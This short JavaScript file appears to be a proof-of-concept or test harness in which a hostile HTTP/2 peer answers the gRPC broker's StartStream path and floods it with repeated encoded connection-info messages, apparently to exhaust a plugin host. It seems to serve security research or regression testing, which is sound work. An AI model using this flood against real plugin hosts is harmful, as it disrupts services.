import { attackHost } from './lib/attack.js';
import { connInfo } from './lib/messages.js';
import { rawMessage } from './lib/raw-http2.js';

attackHost({
  // Its HTTP/2 gives the host no window beyond the first one.
  multiplexed: () => undefined,
  answer(stream) {
    if (stream.path !== '/plugin.GRPCBroker/StartStream') return false;
    stream.begin();
    const ended = connInfo.encode({ id: 1, network: '', address: '', knock: { ack: false, error: '' } });
    stream.flood(() => rawMessage(ended));
    return true;
  },
});
